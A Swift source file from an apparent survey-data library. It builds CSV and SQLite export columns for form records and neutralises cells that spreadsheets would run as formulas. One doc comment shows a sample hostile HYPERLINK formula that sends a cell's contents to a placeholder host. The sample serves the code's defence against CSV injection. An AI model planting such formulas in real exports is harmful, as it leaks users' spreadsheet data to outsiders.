import Foundation
import PalabreCore

/// The columns of a form in exports: one per field in form order, select_multiple also as one 0/1 column per choice
/// (`themes/water`, as KoboToolbox does), geopoints as `location_latitude` and `location_longitude`, then the
/// record's `id`, capture and update times and capturing device. Notes hold no value and have no column. Stable: the same form gives the same columns.
public struct ExportColumns: Sendable {
    /// What a column holds.
    public enum Kind: Sendable, Equatable {
        /// A field's value (codes or labels).
        case value(Field)
        /// 1 when a select_multiple field includes the choice, else 0.
        case choice(Field, String)
        /// A geopoint's latitude or longitude.
        case latitude(Field), longitude(Field)
        /// Record metadata.
        case id, created, updated, device, deleted
        /// The form version the record's latest write was made with.
        case formVersion

        /// The SQLite type of the column.
        public var sqlType: String {
            switch self {
            case .value(let f):
                switch f.type {
                case .integer: return "INTEGER"
                case .decimal: return "REAL"
                default: return "TEXT"
                }
            case .choice: return "INTEGER"
            case .latitude, .longitude: return "REAL"
            case .id, .created, .updated, .device: return "TEXT"
            case .deleted, .formVersion: return "INTEGER"
            }
        }
    }

    /// Column names and kinds, in order.
    public let columns: [(name: String, kind: Kind)]

    /// The columns of a form.
    public init(form: Form, includeDeleted: Bool, dropContact: Bool = false) {
        var cols: [(String, Kind)] = []
        for f in form.fields where f.type.holdsValue && !(dropContact && f.contact) {
            switch f.type {
            case .geopoint:
                cols.append(("\(f.name)_latitude", .latitude(f)))
                cols.append(("\(f.name)_longitude", .longitude(f)))
            case .selectMultiple:
                cols.append((f.name, .value(f)))
                for c in f.choices { cols.append(("\(f.name)/\(c.name)", .choice(f, c.name))) }
            default:
                cols.append((f.name, .value(f)))
            }
        }
        // The version first: a record of an older version simply leaves the newer fields empty.
        cols += [("form_version", .formVersion), ("id", .id), ("created", .created), ("updated", .updated), ("device", .device)]
        if includeDeleted { cols.append(("deleted", .deleted)) }
        columns = cols
    }

    /// A record's cell for each column; nil is an empty cell. Labels replace choice codes when a language is given.
    public func cells(_ record: StoredRecord, labels: Language?) -> [ExportCell] {
        let values = record.values
        func value(_ f: Field) -> Value? { values[f.name] }
        return columns.map { _, kind in
            switch kind {
            case .value(let f):
                guard let v = value(f) else { return .empty }
                switch (f.type, v) {
                case (.integer, .integer(let i)): return .integer(i)
                case (.decimal, .decimal(let d)): return .real(d)
                case (.selectOne, .string(let s)):
                    return .text(labels.flatMap { l in f.choice(s)?.label.text(l) } ?? s)
                case (.selectMultiple, .list(let l)):
                    // Codes are separated by spaces as in XLSForm; labels hold spaces themselves, so "; " separates them.
                    return .text(
                        l.map { c in labels.flatMap { lang in f.choice(c)?.label.text(lang) } ?? c }.joined(separator: labels == nil ? " " : "; "))
                default: return .text(v.displayString)
                }
            case .choice(let f, let name):
                guard case .list(let l)? = value(f) else { return .empty }
                return .integer(l.contains(name) ? 1 : 0)
            case .latitude(let f):
                if case .geopoint(let lat, _)? = value(f) { return .real(lat) }
                return .empty
            case .longitude(let f):
                if case .geopoint(_, let lon)? = value(f) { return .real(lon) }
                return .empty
            case .id: return .text(record.id)
            case .created: return .text(StampsCodec.iso(record.created.hlc))
            case .updated: return .text(StampsCodec.iso(record.updated))
            case .device: return .text(record.created.node)
            case .deleted: return .integer(record.isDeleted ? 1 : 0)
            case .formVersion: return .integer(Int64(record.state.formVersion))
            }
        }
    }
}

/// One exported cell.
public enum ExportCell: Sendable, Equatable {
    case empty
    case text(String)
    case integer(Int64)
    case real(Double)

    /// The cell as CSV text (quoted when needed, neutralised when a spreadsheet would read it as a formula).
    public var csv: String {
        switch self {
        case .empty: return ""
        case .integer(let i): return String(i)
        case .real(let d): return Value.format(d)
        case .text(let raw):
            let s = Self.neutralised(raw)
            // Scan bytes, not characters: this runs for every cell of every exported record.
            guard s.utf8.contains(where: { $0 == 44 || $0 == 34 || $0 == 10 || $0 == 13 }) else { return s }
            var out = "\""
            for ch in s.unicodeScalars {
                if ch == "\"" { out += "\"\"" } else { out.unicodeScalars.append(ch) }
            }
            return out + "\""
        }
    }

    /// A text cell that Excel or LibreOffice would run as a formula (OWASP "CSV injection": it begins with `=`, `+`,
    /// `-`, `@`, a tab or a carriage return), prefixed with a single quote so it shows as the text it is. A cell that is
    /// plainly a number or a phone number (`+223 70 00 00 00`, `-12,5`: an optional sign, a digit, then only digits,
    /// spaces, `.` and `,`) cannot be a formula and is left as it is.
    ///
    /// ```swift
    /// ExportCell.neutralised(#"=HYPERLINK("http://x.example/?"&A1,"clic")"#)   // "'=HYPERLINK(…"
    /// ExportCell.neutralised("+223 70 00 00 00")                                 // unchanged
    /// ```
    public static func neutralised(_ s: String) -> String {
        guard let first = s.utf8.first, first == 61 || first == 43 || first == 45 || first == 64 || first == 9 || first == 13 else {
            return s
        }
        if isPlainNumber(s) { return s }
        return "'" + s
    }

    /// Whether a text matches `^[+-]?[0-9][0-9 .,]*$`.
    static func isPlainNumber(_ s: String) -> Bool {
        var bytes = s.utf8[...]
        if let sign = bytes.first, sign == 43 || sign == 45 { bytes = bytes.dropFirst() }
        guard let digit = bytes.first, (48...57).contains(digit) else { return false }
        return bytes.allSatisfy { (48...57).contains($0) || $0 == 32 || $0 == 46 || $0 == 44 }
    }
}
